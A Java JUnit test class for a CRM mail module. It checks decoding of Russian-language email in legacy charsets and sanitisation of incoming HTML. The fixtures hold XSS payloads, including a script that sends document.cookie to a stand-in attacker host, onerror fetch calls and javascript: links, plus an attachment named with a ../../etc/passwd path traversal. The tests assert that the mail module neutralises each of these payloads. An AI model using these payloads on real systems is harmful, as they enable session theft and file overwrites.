package io.crmkit.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Reading what real mailers send, fetched over IMAP from GreenMail. */
class MimeContentTest {
    private static final Charset CP1251 = Charset.forName("windows-1251");
    private static final Charset KOI8R = Charset.forName("KOI8-R");
    private static final String RUSSIAN = "Добрый день! Пришлите, пожалуйста, счёт на 15 стульев «Эконом».";

    /** KOI8-R has no guillemets, so this text quotes with straight quotes. */
    private static final String RUSSIAN_KOI8 = "Ёлки-палки, щётки и ящики: \"Эконом\" - нет, \"Стандарт\".";

    private final MailWorld w = new MailWorld();

    @AfterEach
    void stop() {
        w.close();
    }

    private Letter only() {
        PollReport r = w.poller(w.salesBox()).poll();
        assertThat(r.complete()).isTrue();
        assertThat(r.quarantined()).isZero();
        return w.crm.storage().letters().ofClient(w.romashka.id()).get(0);
    }

    private static byte[] bytes(String ascii, byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(ascii.getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(body);
        return out.toByteArray();
    }

    private static String encodedWord(String s, Charset cs) {
        return "=?" + cs.name() + "?B?" + Base64.getEncoder().encodeToString(s.getBytes(cs)) + "?=";
    }

    @Test
    void aWindows1251LetterReadsCorrectly() {
        String head = "From: " + encodedWord("Иван Иванов", CP1251) + " <ivan@romashka.example>\r\n"
                + "To: sales@crm.example\r\nSubject: " + encodedWord("Счёт на стулья", CP1251) + "\r\n"
                + "Message-ID: <cp1251@romashka.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/plain; charset=windows-1251\r\nContent-Transfer-Encoding: 8bit\r\n\r\n";
        w.deliver(w.sales, bytes(head, (RUSSIAN + "\r\n").getBytes(CP1251)));

        Letter l = only();

        assertThat(l.subject()).isEqualTo("Счёт на стулья");
        assertThat(l.from().name()).isEqualTo("Иван Иванов");
        assertThat(l.text()).contains(RUSSIAN);
    }

    @Test
    void aKoi8rLetterReadsCorrectly() {
        String head = "From: ivan@romashka.example\r\nTo: sales@crm.example\r\n"
                + "Subject: =?koi8-r?Q?" + qp("Заказ", KOI8R) + "?= =?koi8-r?B?"
                + Base64.getEncoder().encodeToString(" 7 шт.".getBytes(KOI8R))
                + "?=\r\nMessage-ID: <koi8@romashka.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/plain; charset=\"KOI8-R\"\r\nContent-Transfer-Encoding: base64\r\n\r\n";
        String body = Base64.getMimeEncoder().encodeToString((RUSSIAN_KOI8 + "\r\n").getBytes(KOI8R)) + "\r\n";
        w.deliver(w.sales, bytes(head, body.getBytes(StandardCharsets.US_ASCII)));

        Letter l = only();

        assertThat(l.subject()).as("adjacent encoded words join without the space between them").isEqualTo("Заказ 7 шт.");
        assertThat(l.text()).contains(RUSSIAN_KOI8);
    }

    private static String qp(String s, Charset cs) {
        StringBuilder b = new StringBuilder();
        for (byte x : s.getBytes(cs)) {
            b.append(String.format("=%02X", x & 0xff));
        }
        return b.toString();
    }

    @Test
    void htmlInWindows1251QuotedPrintableIsDecodedAndSanitized() {
        String html = "<html><body><p onclick=\"steal()\">" + RUSSIAN + "</p>"
                + "<script>alert('x')</script><img src=\"x\" onerror=\"alert(1)\">"
                + "<a href=\"javascript:alert(2)\">ссылка</a><a href=\"https://romashka.example/\">сайт</a>"
                + "<iframe src=\"https://evil.example/\"></iframe></body></html>";
        String head = "From: ivan@romashka.example\r\nTo: sales@crm.example\r\nSubject: HTML\r\n"
                + "Message-ID: <html@romashka.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/html; charset=windows-1251\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n";
        w.deliver(w.sales, bytes(head, (qpLines(html.getBytes(CP1251)) + "\r\n").getBytes(StandardCharsets.US_ASCII)));

        Letter l = only();

        assertThat(l.html()).contains(RUSSIAN).contains("<a href=\"https://romashka.example/\">сайт</a>")
                .doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("onerror")
                .doesNotContainIgnoringCase("onclick").doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("iframe").doesNotContain("alert");
        assertThat(l.text()).as("plain text is derived from the sanitized HTML").contains(RUSSIAN).doesNotContain("alert");
    }

    private static String qpLines(byte[] bytes) {
        StringBuilder b = new StringBuilder();
        int col = 0;
        for (byte x : bytes) {
            int c = x & 0xff;
            String piece = c >= 33 && c <= 126 && c != '=' ? Character.toString((char) c) : String.format("=%02X", c);
            if (col + piece.length() > 72) {
                b.append("=\r\n");
                col = 0;
            }
            b.append(piece);
            col += piece.length();
        }
        return b.toString();
    }

    @Test
    void aMultipartLetterWithScriptAndAnAttachmentNamedLikeAPathIsStoredHarmlessly() {
        byte[] secret = "root:x:0:0:root:/root:/bin/bash\n".getBytes(StandardCharsets.US_ASCII);
        String raw = "From: ivan@romashka.example\r\nTo: sales@crm.example\r\nSubject: Files\r\n"
                + "Message-ID: <files@romashka.example>\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
                + "--b1\r\nContent-Type: multipart/alternative; boundary=\"b2\"\r\n\r\n"
                + "--b2\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nSee the file.\r\n"
                + "--b2\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n"
                + "<div>See <b>the file</b><script>document.location='https://evil.example/'+document.cookie</script>"
                + "<img src=\"https://romashka.example/logo.png\" onerror=\"fetch('https://evil.example')\"></div>\r\n"
                + "--b2--\r\n"
                + "--b1\r\nContent-Type: application/octet-stream; name=\"../../etc/passwd\"\r\n"
                + "Content-Disposition: attachment; filename=\"../../etc/passwd\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + Base64.getMimeEncoder().encodeToString(secret) + "\r\n"
                + "--b1\r\nContent-Type: text/plain; name=\"=?UTF-8?B?0KHRh9GR0YIudHh0?=\"\r\n"
                + "Content-Disposition: attachment; filename=\"=?UTF-8?B?0KHRh9GR0YIudHh0?=\"\r\n\r\nInvoice text\r\n"
                + "--b1--\r\n";
        w.deliver(w.sales, raw);

        Letter l = only();

        assertThat(l.text()).contains("See the file.");
        assertThat(l.html()).contains("<b>the file</b>").doesNotContainIgnoringCase("script")
                .doesNotContain("onerror").doesNotContain("evil.example");
        assertThat(l.attachments()).hasSize(2);
        AttachmentRef passwd = l.attachments().get(0);
        assertThat(passwd.declaredName()).isEqualTo("../../etc/passwd");
        assertThat(passwd.id()).doesNotContain("/").doesNotContain("..").doesNotContain("passwd");
        assertThat(w.crm.mail().attachment(passwd)).isEqualTo(secret);
        assertThat(l.attachments().get(1).declaredName()).isEqualTo("Счёт.txt");
        assertThat(new String(w.crm.mail().attachment(l.attachments().get(1)), StandardCharsets.UTF_8))
                .isEqualTo("Invoice text");
    }
}
